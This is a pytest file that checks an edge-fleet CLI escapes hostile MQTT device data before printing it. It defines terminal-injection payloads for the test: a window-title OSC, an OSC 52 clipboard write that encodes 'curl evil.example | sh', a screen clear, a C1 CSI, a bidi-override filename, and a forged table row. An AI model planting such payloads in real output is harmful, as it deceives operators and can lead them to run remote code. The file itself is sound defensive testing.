"""Terminal escapes from the broker, as any publisher on a fleet's topics would plant them: the real
`edgeserve fleet` commands (devices, watch, send) run against a real Mosquitto that holds hostile
retained device topics and a fake device that answers with hostile text. The operator's terminal gets
no raw ESC, BEL, C1 control or bidi override (no window title, clipboard write, screen clear or reordered
text) and no forged row."""

from __future__ import annotations

import json
import re
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import paho.mqtt.client as mqtt
import pytest
from paho.mqtt.enums import CallbackAPIVersion
from paho.mqtt.packettypes import PacketTypes
from paho.mqtt.properties import Properties

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fleet"))
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "ota"))
from broker import Mosquitto, needs_mosquitto
from ota_fixtures import edgeserve

pytestmark = needs_mosquitto()

OSC_TITLE = "\x1b]0;owned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes "curl evil.example | sh"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"  # the one-character CSI some terminals still obey
BIDI = "\u202egnp.exe\u202c"
FAKE_ROW = "ok\ncam-99  yes  v9  -  ok  1.0  now"
# What must not reach the terminal raw: C0 controls but newline, DEL, C1 controls, bidi embeddings,
# overrides and isolates.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")

DEVICES = {  # device id (a topic level) -> its retained topics
    "cam-1": {
        "state": {"online": True, "version": OSC_TITLE, "at": CLEAR + "2024-01-01T00:00:00Z"},
        "health": {"status": FAKE_ROW, "checks": [C1_CSI]},
        "reported": {"active_version": 3, "previous_version": 2},
    },
    f"cam-{BIDI}": {"state": {"online": True, "version": OSC_CLIPBOARD, "at": BIDI}},
}


def _publish(port: int, messages: list[tuple[str, dict[str, Any]]]) -> None:
    client = mqtt.Client(CallbackAPIVersion.VERSION2, client_id="planter", protocol=mqtt.MQTTv5)
    client.connect("127.0.0.1", port)
    client.loop_start()
    try:
        for topic, body in messages:
            info = client.publish(topic, json.dumps(body, ensure_ascii=False), qos=1, retain=True)
            info.wait_for_publish(10)
            assert info.is_published(), topic
    finally:
        client.disconnect()
        client.loop_stop()


class FakeDevice:
    """A device `evil` that answers every command with hostile progress text, then a hostile failure."""

    def __init__(self, port: int) -> None:
        self.client = mqtt.Client(CallbackAPIVersion.VERSION2, client_id="evil", protocol=mqtt.MQTTv5)
        subscribed = threading.Event()
        self.client.on_subscribe = lambda *args: subscribed.set()
        self.client.on_message = self._answer
        self.client.connect("127.0.0.1", port)
        self.client.subscribe("es/v1/lab/evil/cmd/+", qos=1)
        self.client.loop_start()
        assert subscribed.wait(10)

    def _answer(self, client: mqtt.Client, userdata: Any, message: mqtt.MQTTMessage) -> None:
        command = json.loads(message.payload)
        cmd_id = command.get("cmd_id") or json.loads(command["command"])["cmd_id"]
        props = Properties(PacketTypes.PUBLISH)
        props.CorrelationData = message.properties.CorrelationData
        for body in (
            {"status": "IN_PROGRESS", "progress": 0.5, "message": OSC_TITLE + FAKE_ROW},
            {"status": "ACCEPTED" + CLEAR, "message": C1_CSI},
            {"status": "FAILED", "error": BIDI + OSC_CLIPBOARD, "result": {"x": CLEAR}},
        ):
            reply = {"cmd_id": cmd_id, "device": "evil", **body}
            client.publish(message.properties.ResponseTopic, json.dumps(reply, ensure_ascii=False), qos=1,
                           properties=props)  # fmt: skip

    def close(self) -> None:
        self.client.disconnect()
        self.client.loop_stop()


@pytest.fixture(scope="module")
def broker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mosquitto]:
    broker = Mosquitto(tmp_path_factory.mktemp("fleet-terminal") / "broker").start()
    messages = [
        (f"es/v1/lab/{d}/{leaf}", body) for d, topics in DEVICES.items() for leaf, body in topics.items()
    ]
    _publish(broker.port, messages)
    try:
        yield broker
    finally:
        broker.kill()


def _fleet(broker: Mosquitto, *args: str) -> str:
    result = edgeserve("fleet", *args, "--broker", broker.url, "--fleet", "lab", timeout=120)
    out = result.stdout + result.stderr
    assert not RAW.findall(out), f"raw control characters reach the terminal: {RAW.findall(out)}\n{out!r}"
    return result.stdout


def test_fleet_devices_prints_device_fields_escaped(broker: Mosquitto) -> None:
    out = _fleet(broker, "devices")
    lines = out.splitlines()
    assert len(lines) == 1 + len(DEVICES) + 1, out  # the header, one row per device, the count: no forged row
    assert lines[-1] == "2 devices, 2 online"
    assert "\\x1b]0;owned\\x07" in out and "\\u202egnp.exe\\u202c" in out and "ok\\ncam-99" in out
    assert "\\x1b]52;c;" in out  # shown, escaped: the operator sees what was planted


def test_fleet_watch_prints_device_fields_escaped(broker: Mosquitto) -> None:
    out = _fleet(broker, "watch", "--seconds", "3")
    assert "cam-1 health (retained)" in out and "cam-\\u202egnp.exe\\u202c state (retained)" in out


def test_fleet_send_prints_a_hostile_answer_escaped(broker: Mosquitto) -> None:
    device = FakeDevice(broker.port)
    try:
        out = _fleet(broker, "send", "evil", "get_status", "--unsigned", "--timeout", "60")
    finally:
        device.close()
    assert "outcome: FAILED" in out and "\\u202egnp.exe" in out and "ACCEPTED\\x1b[2J" in out, out
    assert out.count("\n") == 4, out  # three answers and the outcome, one line each
